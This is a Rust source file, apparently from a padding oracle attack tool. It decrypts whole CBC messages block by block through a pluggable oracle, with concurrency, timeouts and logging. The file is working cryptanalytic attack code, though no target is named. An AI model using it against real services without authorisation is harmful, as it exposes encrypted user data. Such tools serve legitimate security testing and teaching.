use futures::{stream, StreamExt, TryStreamExt};
use tracing::{info, instrument};

use crate::{bytes::xor_bytes, AttackConfig, AttackError, BlockDecryptor, PaddingOracle};

/// Decrypts whole CBC messages, one [`BlockDecryptor`] run per block.
pub struct MessageDecryptor<O> {
    oracle: O,
    config: AttackConfig,
}

impl<O: PaddingOracle> MessageDecryptor<O> {
    pub fn new(oracle: O, config: AttackConfig) -> Result<Self, AttackError> {
        config.validate()?;
        Ok(Self { oracle, config })
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    /// Recover the plaintext of `ciphertext`, which was encrypted with `iv`.
    ///
    /// The padding of the final block is left in place. Passing the wrong IV
    /// only garbles the first block.
    pub async fn decrypt(&self, ciphertext: &[u8], iv: &[u8]) -> Result<Vec<u8>, AttackError> {
        if iv.len() != self.config.block_size {
            return Err(AttackError::MalformedInput(format!(
                "IV must be {} bytes, got {}",
                self.config.block_size,
                iv.len()
            )));
        }
        let intermediates = self.intermediate_values(ciphertext).await?;

        let preceding_blocks =
            std::iter::once(iv).chain(ciphertext.chunks(self.config.block_size));
        let mut plaintext = Vec::with_capacity(ciphertext.len());
        for (intermediate, preceding) in intermediates.iter().zip(preceding_blocks) {
            plaintext.extend(xor_bytes(intermediate, preceding).map_err(AttackError::MalformedInput)?);
        }
        Ok(plaintext)
    }

    /// Intermediate values of every block of `ciphertext`, in block order.
    ///
    /// Up to `config.concurrency` blocks are attacked at once.
    pub async fn intermediate_values(
        &self,
        ciphertext: &[u8],
    ) -> Result<Vec<Vec<u8>>, AttackError> {
        let block_size = self.config.block_size;
        if ciphertext.is_empty() || ciphertext.len() % block_size != 0 {
            return Err(AttackError::MalformedInput(format!(
                "ciphertext of {} bytes is not a positive multiple of the {} byte block size",
                ciphertext.len(),
                block_size
            )));
        }

        info!(
            n_blocks = ciphertext.len() / block_size,
            concurrency = self.config.concurrency,
            "starting padding oracle attack"
        );
        stream::iter(ciphertext.chunks(block_size).enumerate())
            .map(|(index, block)| self.decrypt_block(index, block))
            .buffered(self.config.concurrency)
            .try_collect()
            .await
    }

    #[instrument(skip(self, block))]
    async fn decrypt_block(&self, index: usize, block: &[u8]) -> Result<Vec<u8>, AttackError> {
        let decryptor = BlockDecryptor::new(&self.oracle, &self.config)?;
        let intermediate = match self.config.block_timeout {
            Some(limit) => tokio::time::timeout(limit, decryptor.intermediate_value(block))
                .await
                .map_err(|_| AttackError::TimedOut { block: index })??,
            None => decryptor.intermediate_value(block).await?,
        };
        info!("block decrypted");
        Ok(intermediate)
    }
}
